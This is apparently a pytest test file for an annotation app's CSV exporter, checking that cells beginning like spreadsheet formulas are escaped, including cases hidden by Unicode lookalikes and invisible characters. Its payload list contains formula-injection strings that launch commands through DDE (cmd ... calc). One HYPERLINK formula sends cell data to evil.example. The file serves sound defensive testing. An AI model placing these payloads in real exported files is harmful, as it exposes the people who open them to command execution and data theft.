"""The table of annotations: what a spreadsheet reads back, and that nothing in it runs."""

from __future__ import annotations

import csv
import io
import re
import sys
import unicodedata
from dataclasses import replace

import pytest

from db.records import Anchor, AnchorState
from desktop.annotated.document import Document, Exported
from desktop.annotated.options import Options
from desktop.exporters import exporter
from desktop.exporters.to_csv import COLUMNS, safe_cell
from tests.annotated.make import SOURCE, THEMES, content_of, document, mark

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"look\")", "=WEBSERVICE(A1)", "==bold==",
    "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@x", "=", "+", "-",
    "- a list", "--", "@", "\t=1+1", "\tplain", "\r=1+1", "\rplain", "\r\n=1+1", "\n=1+1", "\x00=1+1", "\x00plain",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", " =1+1", "   =1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1",
    "\u200b=1+1", "\u202e=1+1", "\u2066@x", "\u2028=1+1", "=1+1\",=2+2", "=\ud83d", "+\x00", "=DDE(\"a\";\"b\";\"c\")",
]  # fmt: skip
UNSEEN = {"Cc", "Cf", "Mc", "Me", "Mn", "Zl", "Zp", "Zs"}  # besides the million that mean nothing, half or not yet
HARMLESS = ["", "plain", "a=b", "1+1", '"=1+1"', "x\n=1+1", "日本", "'=1+1", "a, b", "…-", "(=)"]


def rows_of(exported: Exported) -> list[dict[str, str]]:
    data = exported.data
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def table(document_: Document, **options: str) -> list[dict[str, str]]:
    return rows_of(exporter("csv").write(document_, Options(**options)))


def with_note(note: str) -> Document:
    return document(SOURCE, [mark(content_of(SOURCE.encode()), "five firms", note, ["t1"])])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_begins_like_a_formula(payload: str) -> None:
    cell = safe_cell(payload)
    assert cell.startswith("'")
    assert "\x00" not in cell and "\r" not in cell
    cell.encode("utf-8")  # no half character
    made = with_note(payload)
    made = replace(made, article=replace(made.article, title=payload, author=payload))
    made = replace(made, themes=THEMES | {"t1": replace(THEMES["t1"], name=payload)})
    (row,) = table(made)
    assert {row[name] for name in ("article", "author", "note", "themes")} == {cell}
    assert not any(value[:1] in ("=", "+", "-", "@", "\t") for value in row.values())


def test_no_sign_that_is_not_seen_hides_what_begins_a_formula() -> None:
    kinds: dict[str, list[str]] = {}
    for sign in map(chr, range(sys.maxunicode + 1)):
        kinds.setdefault(unicodedata.category(sign), []).append(sign)
    every = [sign for kind, signs in kinds.items() if kind in UNSEEN for sign in signs]
    unseen = every + [sign for kind in ("Cn", "Co", "Cs") for sign in (*kinds[kind][::499], kinds[kind][-1])]
    assert {"\u00ad", "\u2007", "\x0b", "\x85", "\u061c", "\ufe0f", "\U000e0001"} <= set(unseen)
    for sign in [*unseen, *"\u115f\u1160\u2800\u3164\uffa0"]:
        assert safe_cell(f"{sign}=1+1")[0] == "'", hex(ord(sign))
        assert sign in "\t\r\n\0" or safe_cell(f"{sign}x=1")[0] != "'", hex(ord(sign))
    for sign in "=+-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b\u207a\u208c\u2212":
        assert safe_cell(f"\u00ad\u2007 {sign}1")[0] == "'"


@pytest.mark.parametrize("delimiter", [",;", ",\t", ",|"])
def test_no_cell_begins_in_the_middle_of_another_where_cells_are_parted_at_other_signs_too(delimiter: str) -> None:
    """What a spreadsheet reads that takes more than one sign for the end of a cell, as LibreOffice proposes."""
    other = delimiter[1]
    note = f'x{other}=1+1{other}@SUM(1){other}"{other}=2'
    data = exporter("csv").write(with_note(note), Options()).data.decode("utf-8-sig").split("\r\n")[1]
    cells, at = [], 0
    while found := re.compile(rf'"((?:[^"]|"")*)"(?:[{delimiter}]|$)').match(data, at):
        cells.append(found[1].replace('""', '"'))
        at = found.end()
    assert at == len(data) and note in cells
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t") for cell in cells)


@pytest.mark.parametrize("text", HARMLESS)
def test_every_other_cell_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_lines_end_as_the_standard_says_and_those_of_a_cell_do_not() -> None:
    text = exporter("csv").write(with_note("one\r\ntwo\rthree"), Options()).text
    assert text.count("\r\n") == 2
    assert "one\ntwo\nthree" in text
    assert text.replace("\r\n", "").count("\r") == 0


def test_a_row_says_all_that_is_known() -> None:
    source = f"{SOURCE}\n## Later\n\n### Last\n\nOnly five workers stayed.\n"
    content = content_of(source.encode())
    one = mark(content, "five workers", "n", ["t2", "t1", "gone"])
    (row,) = table(document(source, [one], title="Money"))
    assert tuple(row) == COLUMNS
    assert (row["article"], row["author"], row["source"]) == ("Money", "A. Writer", "ai-race.md")
    assert (row["quote"], row["themes"], row["state"]) == ("five workers", "Talent, Investment", "IN_PLACE")
    assert content.text[int(row["start"]) : int(row["end"])] == "five workers"
    assert (row["link"], row["id"]) == (f"postil://a/{one.id}", one.id)
    assert (row["created"], row["modified"]) == (one.created, one.modified)
    assert row["heading"] == "Later › Last"


def test_an_orphan_has_no_place_and_links_are_left_out_where_none_are_wanted() -> None:
    one = replace(mark(content_of(SOURCE.encode()), "five firms"), anchor=Anchor(AnchorState.ORPHAN, None, None, 0.0))
    (row,) = table(document(SOURCE, [one]), links="none")
    assert [row[name] for name in ("state", "start", "end", "heading", "link")] == ["ORPHAN", "", "", "", ""]
